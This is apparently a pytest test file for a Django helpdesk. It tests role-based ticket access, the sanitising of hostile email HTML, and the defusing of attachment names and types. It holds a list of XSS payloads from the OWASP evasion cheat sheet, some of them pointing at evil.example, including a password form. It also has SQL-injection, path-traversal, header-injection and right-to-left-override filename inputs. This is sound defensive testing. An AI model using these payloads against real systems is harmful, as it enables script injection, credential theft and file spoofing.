"""Who sees what, hostile HTML, hostile attachment names."""

from __future__ import annotations

import re

import pytest
from django.contrib.auth.models import AnonymousUser
from django.http import Http404
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from answerdesk.desk.attachments import download_headers, safe_filename
from answerdesk.desk.mail_html import sanitise
from answerdesk.tickets.access import (
    Role,
    access_attachment_by_id,
    access_message_by_id,
    access_ticket_by_id,
    role_of,
    visible_tickets,
)
from answerdesk.tickets.models import Attachment, Channel, Message, Ticket


def _ticket(subject: str, assignee=None) -> Ticket:
    ticket = Ticket.objects.create(subject=subject, channel=Channel.EMAIL, assignee=assignee)
    message = Message.objects.create(
        ticket=ticket,
        direction=Message.Direction.INBOUND,
        channel=Channel.EMAIL,
        message_id=f"{subject}@x.test",
        text="hello",
        sent_at=ticket.created_at,
    )
    Attachment.objects.create(
        message=message, sha256="0" * 64, size=1, content_type="text/plain", filename="a.txt"
    )
    return ticket


@pytest.fixture
def world(make_staff):
    people = {
        "camille": make_staff("agent", "camille"),
        "hugo": make_staff("agent", "hugo"),
        "sofia": make_staff("supervisor", "sofia"),
        "ada": make_staff("admin", "ada"),
    }
    tickets = {
        "camille's": _ticket("camilles", people["camille"]),
        "hugo's": _ticket("hugos", people["hugo"]),
        "nobody's": _ticket("nobodys"),
    }
    return people, tickets


EVERYTHING = {"camille's", "hugo's", "nobody's"}


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("who", "role", "sees"),
    [
        ("camille", Role.AGENT, {"camille's", "nobody's"}),
        ("hugo", Role.AGENT, {"hugo's", "nobody's"}),
        ("sofia", Role.SUPERVISOR, EVERYTHING),
        ("ada", Role.ADMIN, EVERYTHING),
    ],
)
def test_each_role_sees_its_tickets_and_nothing_else(world, who, role, sees):
    people, tickets = world
    user = people[who]
    assert role_of(user) is role
    assert set(visible_tickets(user)) == {tickets[name] for name in sees}
    for name, ticket in tickets.items():
        message = ticket.messages.get()
        attachment = Attachment.objects.get(message=message)
        if name in sees:
            assert access_ticket_by_id(user, ticket.pk) == ticket
            assert access_message_by_id(user, message.pk) == message
            assert access_attachment_by_id(user, attachment.pk) == attachment
        else:
            for check, pk in (
                (access_ticket_by_id, ticket.pk),
                (access_message_by_id, message.pk),
                (access_attachment_by_id, attachment.pk),
            ):
                with pytest.raises(Http404):
                    check(user, pk)


@pytest.mark.django_db
def test_no_role_anonymous_and_inactive_users_see_nothing(world, django_user_model, make_staff):
    _, tickets = world
    guest = django_user_model.objects.create_user("guest", "g@x.test", "x")
    gone = make_staff("supervisor", "gone", is_active=False)
    root = django_user_model.objects.create_superuser("root", "r@x.test", "x")
    for user in (guest, AnonymousUser(), gone):
        assert role_of(user) is None
        assert not visible_tickets(user).exists()
        with pytest.raises(Http404):
            access_ticket_by_id(user, tickets["nobody's"].pk)
    assert role_of(root) is Role.ADMIN


@pytest.mark.django_db
@pytest.mark.parametrize("garbage", ["1 OR 1=1", "", None, "9" * 40, -1, 2**70, "1.5", [1]])
def test_garbage_ids_are_missing_tickets_not_errors(world, garbage):
    people, _ = world
    with pytest.raises(Http404):
        access_ticket_by_id(people["sofia"], garbage)


@pytest.mark.django_db
def test_an_agent_cannot_open_another_agents_ticket_or_its_files_in_the_desk(client, world):
    people, tickets = world
    client.force_login(people["camille"])
    theirs = tickets["hugo's"]
    attachment = Attachment.objects.get(message__ticket=theirs)
    assert client.get(f"/desk/tickets/{theirs.pk}/").status_code == 404
    assert client.get(f"/desk/attachments/{attachment.pk}/").status_code == 404
    assert client.post(f"/desk/tickets/{theirs.pk}/note/", {"body": "x"}).status_code == 404
    assert client.post(f"/desk/tickets/{theirs.pk}/check/", {"body": "x"}).status_code == 404


# Real-world vectors: the OWASP XSS filter evasion cheat sheet, mail-client exploits.
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=`javascript:alert(1)`>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<style>@import "http://evil.example/x.css";</style>',
    '<link rel=stylesheet href="http://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    '<form action="http://evil.example/"><input name=password></form>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--<img src=x onerror=alert(1)>-->",
    '<table background="javascript:alert(1)"><td>x</td></table>',
    '<a href="http://evil.example/" onmouseover="alert(1)">hover</a>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    '<img src="http://tracker.example/open.gif?u=42">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]
ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "code", "dd", "div", "dl", "dt", "em",
    "font", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "li", "ol", "p", "pre",
    "q", "s", "small", "span", "strong", "sub", "sup", "table", "tbody", "td", "tfoot",
    "th", "thead", "tr", "u", "ul", "html", "head", "body", "-text",
}  # fmt: skip
SAFE_URL = re.compile(r"^(https?:|mailto:|cid:|/desk/|#|$)", re.IGNORECASE)


def dangers(html: str) -> list[str]:
    """What a browser could run or load from the sanitised HTML, read as a browser would."""
    found = []
    root = LexborHTMLParser(html).root
    assert root is not None
    for node in root.traverse(include_text=False):
        if node.tag not in ALLOWED_TAGS:
            found.append(f"tag {node.tag}")
        for name, value in node.attributes.items():
            if name.lower().startswith("on") or name.lower() in ("style", "srcset", "background"):
                found.append(f"attribute {name}")
            if name.lower() in ("href", "src") and not SAFE_URL.match((value or "").strip()):
                found.append(f"url {value}")
    return found


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_defused(html):
    safe = sanitise(html)
    assert dangers(safe.html) == [], safe.html


def test_remote_images_wait_until_asked_for_and_inline_ones_show():
    html = '<p><img src="https://tracker.example/p.gif"><img src="cid:logo@x"></p>'
    held = sanitise(html, inline_image_url=lambda cid: "/desk/attachments/7/")
    assert held.blocked_images == 1
    assert "tracker.example" not in held.html
    assert 'src="/desk/attachments/7/"' in held.html
    shown = sanitise(html, allow_remote_images=True)
    assert 'src="https://tracker.example/p.gif"' in shown.html


def test_links_show_where_they_go_and_lookalikes_are_marked():
    html = (
        '<a href="https://phish.example/login">www.mabanque.fr</a> <a href="https://a.fr/x">ici</a>'
    )
    safe = sanitise(html).html
    assert 'title="https://phish.example/login"' in safe
    assert "mismatched-link" in safe
    assert safe.count("mismatched-link") == 1
    assert 'rel="noopener noreferrer nofollow"' in safe


@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<",
                ">",
                "/",
                "script",
                "img",
                "svg",
                " src=",
                " onerror=",
                "javascript:",
                '"',
                "'",
                "=",
                "a",
                " href=",
                "&#x6a;",
                "<!--",
                "-->",
                "style",
                "\x00",
                "é",
                "cid:x",
                "http://x/",
            ]
        ),
        max_size=40,
    ).map("".join)
)
def test_no_assembly_of_fragments_gets_script_through(html):
    assert dangers(sanitise(html, allow_remote_images=True).html) == []


@pytest.mark.parametrize(
    ("declared", "expected", "download"),
    [
        ("text/html", "application/octet-stream", True),
        ("image/svg+xml", "application/octet-stream", True),
        ("application/x-msdownload", "application/octet-stream", True),
        ("text/plain; charset=koi8-r", "text/plain; charset=utf-8", False),
        ("IMAGE/PNG", "image/png", False),
        ("application/pdf", "application/pdf", False),
        ("", "application/octet-stream", True),
    ],
)
def test_only_harmless_types_are_shown_inline(declared, expected, download):
    assert download_headers(declared, "x") == (expected, download)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Windows\\system32\\evil.dll", "evil.dll"),
        ("facture\r\nSet-Cookie: a=b.pdf", "facture_Set-Cookie_ a=b.pdf"),
        ("photo\u202egnp.exe", "photo_gnp.exe"),  # right-to-left override: "photoexe.png"
        ("", "attachment-1"),
        ("...", "attachment-1"),
        ("a" * 400 + ".pdf", "a" * 150),
        ('re"sume".pdf', "re_sume_.pdf"),
        ("Devis n°12 – été.pdf", "Devis n°12 – été.pdf"),
    ],
)
def test_attachment_names_are_defused(name, expected):
    assert safe_filename(name, "attachment-1") == expected


@pytest.mark.django_db
def test_a_hostile_attachment_is_served_as_a_download(client, make_staff, blob_store):
    user = make_staff("supervisor", "sofia")
    ticket = _ticket("files")
    sha = blob_store.put(b"<script>alert(1)</script>")
    attachment = Attachment.objects.create(
        message=ticket.messages.get(),
        sha256=sha,
        size=25,
        content_type="text/html",
        filename="../invoice\u202elmth.pdf",
    )
    client.force_login(user)
    response = client.get(f"/desk/attachments/{attachment.pk}/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "\u202e" not in response["Content-Disposition"]
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["X-Content-Type-Options"] == "nosniff"


def test_a_protocol_relative_image_is_shown_over_https_when_asked() -> None:
    # Found by the fragment test above: <img src=//> kept its bare "//".
    assert 'src="https://"' in sanitise("<img src=//>", allow_remote_images=True).html
    assert "src" not in sanitise("<img src=//x/y.png>").html
